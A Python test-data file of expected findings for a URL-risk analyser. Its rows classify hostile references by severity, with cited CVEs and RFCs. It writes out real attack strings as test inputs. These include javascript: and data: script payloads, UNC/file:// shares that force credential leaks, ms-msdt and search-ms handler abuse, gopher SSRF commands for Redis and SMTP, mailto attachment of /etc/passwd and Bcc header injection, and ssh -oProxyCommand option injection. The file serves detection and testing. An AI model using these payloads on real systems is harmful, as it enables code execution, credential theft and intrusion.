"""References that run, attach or send something, or pass something to a program."""

from typing import Final

from tests.analysis.expectations.row import UNCLEAR, Row, high, info, low

GOOD: Final = "https://good.example/dir/page.html"
SCRIPT: Final = "HTML, javascript: URLs; MITRE ATT&CK T1059.007"
DATA: Final = "RFC 2397; phishing pages in data URLs"
FORCED: Final = "MITRE ATT&CK T1187, forced authentication"
GOPHER: Final = "RFC 1436, RFC 1738 3.4; server-side request forgery by gopher"
OPTION: Final = "CVE-2017-1000117"
HEADERS: Final = "RFC 6068 7"

# Windows network shares in all spellings; the host is the other computer.
SHARES: Final = tuple(
    Row(text, (high(code),), host, FORCED, why, forbidden=("userinfo-deceptive", "rare-ip"))
    for text, code, host, why in (
        ("file://evil.test@SSL@443/s/a.lnk", "file-remote", "evil.test", "443 is a port here."),
        ("file://evil.test@8443/s/a.lnk", "file-remote", "evil.test", "So is 8443."),
        ("file://evil.test@SSL/DavWWWRoot/x", "file-remote", "evil.test", "SSL is no host."),
        ("file:////evil.test@SSL@443/x", "file-remote", "evil.test", "The same in a path."),
        ("file:///\\\\evil.test\\s\\x", "file-remote", "evil.test", "Backslashes in a path."),
        ("file:\\\\evil.test\\s\\x", "file-remote", "evil.test", "And nothing else."),
        ("\\\\evil.test\\share", "unc", "evil.test", "No scheme at all."),
        ("\\\\evil.test@SSL@8443\\DavWWWRoot\\x", "unc", "evil.test", "By WebDAV."),
        ("\\\\203.0.113.7@80\\x\\y.exe", "unc", "203.0.113.7", "An address, by WebDAV."),
        ("\\\\?\\UNC\\evil.test\\s\\x", "unc", "evil.test", "The long form of Windows."),
        ("//evil.test@SSL/DavWWWRoot/x", "unc", "evil.test", "With slashes, and beyond doubt."),
        ("\\\\2001-db8--1.ipv6-literal.net\\s", "unc", "[2001:db8::1]", "IPv6 without colons."),
    )
)

NO_SHARES: Final = tuple(
    Row(text, (), UNCLEAR, FORCED, why, forbidden=("file-remote", "unc"), verdict=verdict)
    for text, verdict, why in (
        ("file:///C:/Users/me/a.txt", None, "A file of the computer at hand."),
        ("file:///home/me/a@443/c.txt", None, "A directory with a number."),
        ("\\\\?\\C:\\x", "low", "A drive, by the long form."),
        ("\\\\localhost\\c", "low", "The computer itself."),
    )
)

RUNS: Final = (
    Row("javascript:alert(document.cookie)",
        (high("dangerous-scheme", "javascript", "javascript:"),), None, SCRIPT,
        "It runs code in the page that holds it."),
    *(
        Row(text, (info("dangerous-scheme", "javascript", "javascript:"),), None, SCRIPT,
            "Pages write it where their scripts do the rest; it does nothing by itself.")
        for text in (
            "javascript:void(0)", "javascript:void(0);", "javascript:void%280%29", "javascript:;",
            "javascript:", "javascript:false", "javascript:false;//none",
        )
    ),
    *(
        Row(text, (high("dangerous-scheme", "javascript", "javascript:"),), None, SCRIPT,
            "It acts.")
        for text in (
            "javascript:void(alert(1))", "javascript:void(0);alert(1)", "javascript://%0Aalert(1)",
            "javascript:;location='//evil.test'",
            "javascript:" + ";" * 100 + "alert(1)",
            "javascript://%E2%80%A8alert(1)",
        )
    ),
    Row("JaVaScRiPt:alert(1)", (high("dangerous-scheme", "JaVaScRiPt", "JaVaScRiPt:"),), None,
        SCRIPT, "Letter case changes nothing."),
    Row("javascript:%61%6c%65%72%74(1)", (high("dangerous-scheme", "javascript", "javascript:"),),
        None, SCRIPT, "The code is unescaped before it runs."),
    Row(" javascript:alert(1)", (high("dangerous-scheme"),), None,
        "WHATWG URL: spaces in front are dropped", "The grammar finds no scheme, browsers run it."),
    Row("java\tscript:alert(1)", (high("dangerous-scheme"),), None,
        "WHATWG URL: tabs and line breaks are removed",
        "The grammar finds no scheme, browsers run it."),
    Row("\x01javascript:alert(1)", (high("dangerous-scheme"),), None,
        "WHATWG URL: control characters in front are dropped",
        "The grammar finds no scheme, browsers run it.", base=GOOD),
    Row("vbscript:msgbox(1)", (high("dangerous-scheme", "vbscript", "vbscript:"),), None,
        "Internet Explorer's script schemes", "It runs code where it is known."),
    Row("search-ms:query=invoice&crumb=location:%5C%5C192.0.2.7%5Cshare&displayname=Downloads",
        (high("dangerous-scheme", "search-ms", "search-ms:"),), UNCLEAR,
        "phishing by search-ms of 2023",
        "It shows a foreign share as if it were a folder of this machine."),
    Row("search:query=x&crumb=location:%5C%5Cevil.test%5Cs",
        (high("dangerous-scheme", "search", "search:"),), UNCLEAR, "phishing by search-ms of 2023",
        "The older name of the same handler."),
    Row("ms-msdt:/id PCWDiagnostic /skip force /param x",
        (high("dangerous-scheme", "ms-msdt", "ms-msdt:"),), UNCLEAR, "CVE-2022-30190",
        "It starts a system tool that runs what it is given."),
    Row("MS-MSDT:/id%20PCWDiagnostic%20/skip%20force",
        (high("dangerous-scheme", "MS-MSDT", "MS-MSDT:"),), UNCLEAR, "CVE-2022-30190",
        "Upper case and escapes change nothing."),
    Row("ms-appinstaller:?source=https://evil.test/a.msix",
        (high("dangerous-scheme", "ms-appinstaller", "ms-appinstaller:"),), UNCLEAR,
        "CVE-2021-43890", "It installs a program from the address in its query."),
    Row("hcp://system/sysinfo/sysinfomain.htm",
        (high("dangerous-scheme", "hcp", "hcp:", "hcp://"),), UNCLEAR, "CVE-2010-1885",
        "A help centre that ran what it was given."),
    Row("https://good.example/login?next=javascript:alert(1)",
        (info("nested-uri", "javascript:alert(1)"),), UNCLEAR, "MITRE CWE-79, script in a redirect",
        "Where the page follows it, it runs.", verdict="high"),
    Row("data:text/html,<script>alert(1)</script>", (high("data-active"),), None, DATA,
        "It carries a page of its own."),
    Row("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", (high("data-active"),), None,
        DATA, "It carries a page in base64."),
    Row("DATA:Text/HTML;charset=utf-8,%3Cform%20action=https://evil.test%3E",
        (high("data-active"),), None, DATA, "Letter case changes nothing."),
    Row("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        (high("data-active"),), None, DATA, "A picture that holds a script."),
    Row("data:application/xhtml+xml,%3Chtml%20xmlns='http://www.w3.org/1999/xhtml'%3E%3Cscript/%3E",
        (high("data-active"),), None, DATA, "It carries a page of its own."),
    Row("data:text/html,https://www.paypal.com/signin%20%20%20%3Cscript%3E", (high("data-active"),),
        None, "phishing of mail accounts by data URLs of 2017",
        "The address in its text is part of the page."),
    Row("view-source:https://evil.test/", (low("nested-scheme", "view-source", "view-source:"),),
        UNCLEAR, "Browsers' own schemes", "It shows the source of what it names."),
    Row("VIEW-SOURCE:http://0x7f.1/", (low("nested-scheme", "VIEW-SOURCE", "VIEW-SOURCE:"),),
        UNCLEAR, "Browsers' own schemes; rfc2396bis-01 7.3",
        "What it names is a disguised address.", verdict="high"),
    Row("feed:https://evil.test/rss.xml", (info("nested-scheme", "feed", "feed:"),), UNCLEAR,
        "Schemes of feed readers", "It hands an address to a feed reader."),
    Row("feed:javascript:alert(1)", (info("nested-scheme", "feed", "feed:"),), UNCLEAR,
        "Firefox's feed: scheme and scripts", "What it names runs code.", verdict="high"),
    Row("jar:https://evil.test/a.jar!/x.html", (low("nested-scheme", "jar", "jar:"),), UNCLEAR,
        "CVE-2007-5947", "It opens a page inside of an archive."),
    Row("evilapp://open?cmd=x", (low("unknown-scheme", "evilapp", "evilapp:", "evilapp://"),), None,
        "RFC 7595 6", "Whatever program has claimed the scheme gets the text."),
    Row("x-acme-run:calc", (low("unknown-scheme", "x-acme-run", "x-acme-run:"),), UNCLEAR,
        "RFC 7595 3.8", "Whatever program has claimed the scheme gets the text."),
    Row("Zzyzx://evil.test:1234/", (low("unknown-scheme", "Zzyzx", "Zzyzx:", "Zzyzx://"),),
        "evil.test", "RFC 7595 6", "Nobody has registered this scheme."),
    Row("qq1+a://192.0.2.3/x", (low("unknown-scheme", "qq1+a", "qq1+a:", "qq1+a://"),), "192.0.2.3",
        "RFC 7595 6", "Nobody has registered this scheme."),
    Row("evil.test:8080/login", (info("scheme-ambiguous"), info("port-unusual", "8080", ":8080")),
        "evil.test", "RFC 3986 4.5, 3.1",
        "To the grammar evil.test is a scheme, to a reader a host with a port."),
    Row("www.example.com:443/login", (info("scheme-ambiguous"),), "www.example.com",
        "RFC 3986 4.5, 3.1", "To the grammar www.example.com is a scheme."),
    Row("c:\\windows\\system32\\calc.exe", (low("scheme-ambiguous"),), UNCLEAR,
        "RFC 8089 appendix E.2", "To the grammar c is a scheme, to Windows a drive."),
    Row("D:/setup/run.exe", (low("scheme-ambiguous"),), UNCLEAR, "RFC 8089 appendix E.2",
        "To the grammar D is a scheme, to Windows a drive."),
)  # fmt: skip

FILES: Final = (
    Row("file://evil.test/share/a.exe", (high("file-remote"),), "evil.test", FORCED,
        "Windows asks another machine for it, with the user's credentials."),
    Row("FILE://192.0.2.7/c$/a.lnk", (high("file-remote"),), "192.0.2.7", FORCED,
        "The same with an address."),
    Row("file://evil.test@8080/DavWWWRoot/a", (high("file-remote"),), UNCLEAR, FORCED,
        "Windows reads the number as a WebDAV port."),
    Row("//evil.test/share/x", (high("file-remote"),), "evil.test", FORCED,
        "Against a file as its base it asks another machine.", base="file:///C:/docs/index.html"),
    Row("file:////evil.test/share/a.scf", (high("file-remote"),), UNCLEAR, FORCED,
        "Four slashes do what two do."),
    Row("\\\\evil.test\\share\\report.docx", (high("unc"),), UNCLEAR, FORCED,
        "Windows asks another machine for it, with the user's credentials."),
    Row("\\\\192.0.2.7\\c$\\a.ico", (high("unc"),), UNCLEAR, FORCED, "The same with an address."),
    Row("\\\\evil.test@SSL@443\\DavWWWRoot\\a", (high("unc"),), UNCLEAR, FORCED,
        "The same over WebDAV, past filters of ports."),
    Row("\\\\?\\UNC\\evil.test\\share\\a", (high("unc"),), UNCLEAR, FORCED,
        "The long spelling of the same."),
)  # fmt: skip

SPEAKS: Final = (
    Row("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", (high("gopher-commands"),),
        "127.0.0.1", GOPHER, "Commands for a Redis server."),
    Row("GOPHER://192.0.2.5:25/_HELO%20x%0D%0AMAIL%20FROM:%3Ca@evil.test%3E",
        (high("gopher-commands"),), "192.0.2.5", GOPHER, "Commands for a mail server."),
    Row("gopher://localhost:11211/_%0d%0aset%20a%200%200%201%0d%0a1", (high("gopher-commands"),),
        "localhost", GOPHER, "Commands for memcached."),
    Row("gopher://10.0.0.5:80/_GET%20/admin%20HTTP/1.1%0D%0AHost:%20a%0D%0A",
        (high("gopher-commands"),), "10.0.0.5", GOPHER,
        "A request to a web server of the inner network."),
    Row("https://good.example/?u=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL%250D%250A",
        (high("nested-uri"),), UNCLEAR, GOPHER,
        "The reference in the query speaks to Redis, if the site opens it.", verdict="high"),
    Row("mailto:?attach=/etc/passwd", (high("mailto-dangerous"),), None,
        "CVE-2020-11879, CVE-2020-11880", "Some mail programs attach the file."),
    Row("mailto:carol@corp.example?attachment=file:///C:/secret.txt", (high("mailto-dangerous"),),
        None, HEADERS, "Some mail programs attach the file."),
    Row("MAILTO:carol@corp.example?BCC=eve@evil.test", (high("mailto-dangerous"),), None, HEADERS,
        "A hidden recipient."),
    Row("mailto:carol@corp.example?subject=Hi%0D%0ABcc:%20eve@evil.test",
        (high("mailto-dangerous"),), None, HEADERS,
        "A line break in a subject begins another header."),
    Row("mailto:carol@corp.example%0ABcc:eve@evil.test", (high("mailto-dangerous"),), None, HEADERS,
        "A line break in an address begins another header."),
    Row("mailto:carol@corp.example?body=x&bcc=eve%40evil.test", (high("mailto-dangerous"),), None,
        HEADERS, "A hidden recipient behind an escape."),
    Row("ssh://-oProxyCommand=calc/x", (high("option-injection"),), UNCLEAR, OPTION,
        "A program takes the host for an option and runs it."),
    Row("git+ssh://-oProxyCommand=calc/x.git", (high("option-injection"),), UNCLEAR, OPTION,
        "The same in another scheme."),
    Row("svn+ssh://-oProxyCommand=calc/trunk", (high("option-injection"),), UNCLEAR,
        "CVE-2017-9800", "The same in another scheme."),
    Row("SSH://git@-oProxyCommand=calc/x", (high("option-injection"),), UNCLEAR, OPTION,
        "The same with a user in front."),
    Row("telnet://-nlog/", (high("option-injection"),), UNCLEAR,
        "CVE-2004-0473 and like it, options in telnet addresses",
        "A program takes the host for an option and writes a file."),
)  # fmt: skip

ROWS: Final = (*SHARES, *NO_SHARES, *RUNS, *FILES, *SPEAKS)
